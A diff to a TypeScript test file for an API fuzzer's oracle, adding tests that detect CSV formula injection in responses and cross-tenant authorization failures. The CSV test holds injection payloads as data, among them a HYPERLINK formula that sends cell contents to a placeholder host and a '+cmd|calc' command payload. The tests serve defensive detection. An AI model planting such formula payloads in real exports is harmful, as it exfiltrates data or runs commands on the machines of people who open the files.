@@ -3,7 +3,7 @@ import { z } from 'zod';
 import { caseArb, type Target } from './gen';
 import { applyMutation, BODY_LIMIT, clone, REGEX_BOMBS } from './hostile';
 import { Raw, serialize, withKey } from './json';
-import { checkAnswer } from './oracle';
+import { checkAnswer, checkTenancy, formulaCellIn } from './oracle';
 import { causeOf } from './runner';
 import { arbitraryOf, type JsonSchema } from './schema-arb';
 import { fieldsOf, Pools } from './vocab';
@@ -24,6 +24,29 @@ describe('the oracle', () => {
     expect(checkAnswer(answer(400, { error: { code: 1, message: 'x', status: 400 } }), 'POST').map((p) => p.kind)).toEqual(['envelope']);
     expect(checkAnswer(answer(404, 'Cannot POST /x', 'text/html'), 'POST').map((p) => p.kind)).toEqual(['envelope']);
     expect(checkAnswer({ text: '', ms: 10_000, error: 'no answer within 10000 ms' }, 'POST').map((p) => p.kind)).toEqual(['no-answer']);
+  });
+
+  it('flags a CSV answer with a cell a spreadsheet would run as a formula (CSV injection), not a guarded one or a negative number', () => {
+    const csv = (text: string) => answer(200, text, 'text/csv; charset=utf-8');
+    expect(checkAnswer(csv(`name,n\r\n"'=HYPERLINK(""http://x/?""&A1,""c"")",-5\r\n'+cmd|calc,-1.5e-7\r\n"'\r=1",'-\r\n`), 'GET')).toEqual([]);
+    for (const bad of ['"=HYPERLINK(""x"")"', '+cmd|calc', '-2+3', '@SUM(A1)', '\t=1', '"\r=1"', '-']) {
+      expect(checkAnswer(csv(`a,b\r\nx,${bad}\r\n`), 'GET').map((p) => p.kind)).toEqual(['csv-formula']);
+    }
+    expect(formulaCellIn('a,b\r\n"x,=y",z\r\n')).toBeUndefined();
+  });
+
+  it('flags another domain\'s token succeeding on a record of the fuzz domain by id (API1), and nothing else', () => {
+    const pools = new Pools();
+    pools.add('inventory', 'cloud_service_id', 'cloud-svc-1');
+    const target = { app: 'inventory', kind: 'operation', path: '/inventory/v1/cloud-service/get', roles: ['WORKSPACE_OWNER'], fields: [] } as unknown as Target;
+    const c = (auth: object, body: unknown, path = target.path) => ({ target: { ...target, path }, method: 'POST', path, auth, body, notes: [] }) as never;
+    const other = { kind: 'other-domain', role: 'WORKSPACE_OWNER' };
+    expect(checkTenancy(c(other, { cloud_service_id: 'cloud-svc-1' }), answer(200, {}), pools).map((p) => p.kind)).toEqual(['authz']);
+    expect(checkTenancy(c(other, { cloud_service_id: 'cloud-svc-1' }, '/inventory/v1/cloud-service/delete'), answer(200, {}), pools).map((p) => p.kind)).toEqual(['authz']);
+    expect(checkTenancy(c(other, { cloud_service_id: 'cloud-svc-1' }), answer(404, envelope(404)), pools)).toEqual([]);
+    expect(checkTenancy(c({ kind: 'role', role: 'WORKSPACE_OWNER' }, { cloud_service_id: 'cloud-svc-1' }), answer(200, {}), pools)).toEqual([]);
+    expect(checkTenancy(c(other, { cloud_service_id: 'cloud-svc-other' }), answer(200, {}), pools)).toEqual([]);
+    expect(checkTenancy(c(other, { cloud_service_id: 'cloud-svc-1' }, '/inventory/v1/cloud-service/list'), answer(200, {}), pools)).toEqual([]);
   });
 
   it('flags stack traces, SQL and database error texts in a body', () => {
